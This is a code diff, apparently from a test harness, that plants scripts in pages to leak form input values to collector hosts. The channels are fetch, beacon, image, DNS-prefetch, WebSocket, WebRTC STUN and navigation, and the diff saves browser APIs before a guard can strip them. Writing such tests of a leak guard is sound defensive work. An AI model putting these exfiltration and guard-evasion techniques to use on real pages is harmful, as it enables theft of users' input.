@@ -22,14 +22,16 @@ const NETWORK = {
 	fetch: `fetch(${address('fetch')}, { mode: 'no-cors' }).catch(() => undefined)`,
 	beacon: `navigator.sendBeacon('//${collectorOf('beacon')}/', value)`,
 	image: `new Image().src = ${address('image')}`,
-	dns: `document.head.append(Object.assign(document.createElement('link'), {
-		rel: 'dns-prefetch', href: '//' + encodeURIComponent(value) + '.${collectorOf('dns')}' }))`,
-	websocket: `new WebSocket('ws:' + ${address('websocket')})`,
+	dns: `const link = document.createElement('link');
+		link.href = '//' + encodeURIComponent(value) + '.${collectorOf('dns')}';
+		setRel.call(link, 'dns-prefetch');
+		document.head.append(link)`,
+	websocket: `new Socket('ws:' + ${address('websocket')})`,
 	webrtc: `const peer = new Peer({
 			iceServers: [{ urls: 'stun:' + encodeURIComponent(value) + '.${collectorOf('webrtc')}' }] });
 		peer.createDataChannel('');
 		void peer.setLocalDescription()`,
-	navigation: `if (!opened) opened = open(${address('navigation')}, '', 'noopener') ?? true`,
+	navigation: `if (!opened) opened = openWindow(${address('navigation')}, '', 'noopener') ?? true`,
 };
 
 const LOCAL = {
@@ -60,7 +62,10 @@ export function plantLeaks(from, to, names) {
 	const leaks = names.map((name) => `try { ${LEAKS[name] ?? ''} } catch {}`).join('\n');
 	writeFileSync(
 		join(to, SCRIPT),
-		`{ const Peer = RTCPeerConnection; let opened = false;
+		// Before the guard, which would take them away.
+		`{ const Peer = RTCPeerConnection, Socket = WebSocket, openWindow = open.bind(window);
+		const setRel = Object.getOwnPropertyDescriptor(HTMLLinkElement.prototype, 'rel').set;
+		let opened = false;
 		addEventListener('change', ({ target: { value } }) => { ${leaks} }, true); }`,
 	);
 	const policy = `<meta http-equiv="content-security-policy" content="${META_POLICY}" />`;
